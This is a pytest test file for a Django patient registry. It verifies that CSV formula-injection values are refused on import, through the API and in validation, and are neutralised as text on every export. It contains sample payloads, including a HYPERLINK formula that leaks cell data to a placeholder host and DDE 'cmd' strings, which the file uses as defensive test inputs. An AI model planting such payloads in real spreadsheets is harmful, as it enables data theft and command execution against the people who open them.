"""CSV formula injection: free text that a spreadsheet would run as a formula is refused
at every door, and any such value already stored comes out of every CSV as text."""

import csv
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from analytics.exports import cohort_csv_write, comparisons_csv_write
from registry.importing.service import registry_import
from registry.models import Center, GaitSession, MriScan, Role
from registry.spreadsheets import spreadsheet_safe
from tests.factories import (
    CenterFactory,
    GaitSessionFactory,
    MriScanFactory,
    PublishedRunFactory,
    UserFactory,
    VisitFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_importer_refuses_a_formula_in_a_device_name(tmp_path, payload):
    visit = VisitFactory(patient__patient_id="SYN-F1", patient__center__code="TST-F")
    with (tmp_path / "gait.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        header = "patient_id visit_date velocity_m_s cadence_steps_min step_length_m"
        writer.writerow([*header.split(), "stride_length_m", "swing_pct", "stance_pct", "device"])
        day = visit.visit_date.isoformat()
        writer.writerow(["SYN-F1", day, "1.2", "112", "0.64", "1.29", "39", "61", payload])
    report = registry_import(paths=[tmp_path / "gait.csv"])
    assert not report.ok
    message = str(report.errors[0])
    assert message.startswith("gait.csv:2: device: ")
    assert f"starts with '{payload[0]}', which spreadsheet programs run as a formula" in message
    assert not GaitSession.objects.exists()


def test_the_api_refuses_a_formula_in_software_and_names_the_field():
    walk = GaitSessionFactory(visit__patient__center__code="TST-F")
    user = UserFactory(role=Role.CLINICIAN, centers=[walk.visit.patient.center])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    response = api.patch(
        f"/api/v1/gait-sessions/{walk.pk}/", {"software_version": "=1+2"}, format="json"
    )
    assert response.status_code == 400
    assert "spreadsheet programs run as a formula" in str(response.json()["software_version"])


def test_a_centre_name_with_a_formula_fails_validation():
    with pytest.raises(ValidationError) as raised:
        Center(code="TST-F", name="@SUM(A1:A9)").full_clean()
    assert "name" in raised.value.message_dict


def test_a_negative_number_is_data_not_a_formula():
    assert spreadsheet_safe("-1.5") == "-1.5"
    assert spreadsheet_safe("-1+cmd") == "'-1+cmd"


@pytest.fixture
def stored_formulas():
    """Values stored before the rule (written past validation, as an old database has)."""
    center = CenterFactory(code="TST-F")
    Center.objects.filter(pk=center.pk).update(name=PAYLOADS[0])
    walk = GaitSessionFactory(visit__patient__center=center)
    GaitSession.objects.filter(pk=walk.pk).update(device=PAYLOADS[1], software_version=PAYLOADS[2])
    scan = MriScanFactory(patient=walk.visit.patient)
    MriScan.objects.filter(pk=scan.pk).update(software="-2+3+cmd|' /C calc'!A0")
    return center


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula_cell(cells: list[str]) -> None:
    risky = [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2+")]
    assert risky == []


def test_export_registry_writes_stored_formulas_as_text(stored_formulas, tmp_path):
    call_command("export_registry", "--out", str(tmp_path))
    cells = [
        c
        for name in ("centers", "gait", "mri")
        for c in _cells((tmp_path / f"{name}.csv").read_text())
    ]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells
    _assert_no_formula_cell(cells)


def test_the_deidentified_zip_download_writes_stored_formulas_as_text(client, stored_formulas):
    client.force_login(UserFactory(role=Role.RESEARCHER, centers=[stored_formulas]))
    response = client.get(reverse("export-deidentified"))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    cells = [
        c
        for name in archive.namelist()
        if name.endswith(".csv")
        for c in _cells(archive.read(name).decode("utf-8-sig"))
    ]
    assert "'" + PAYLOADS[1] in cells
    _assert_no_formula_cell(cells)


def test_cohort_and_comparison_exports_write_stored_formulas_as_text(stored_formulas):
    run = PublishedRunFactory()
    run.phenotypes.filter(stable_id=1).update(name="=cmd|' /C calc'!A0")
    run.comparisons.update(note="+1+cmd")
    out = io.StringIO()
    comparisons_csv_write(run=run, out=out)
    cohort = io.StringIO()
    cohort_csv_write(run=run, out=cohort)
    cells = _cells(out.getvalue()) + _cells(cohort.getvalue())
    assert "'+1+cmd" in cells
    _assert_no_formula_cell(cells)
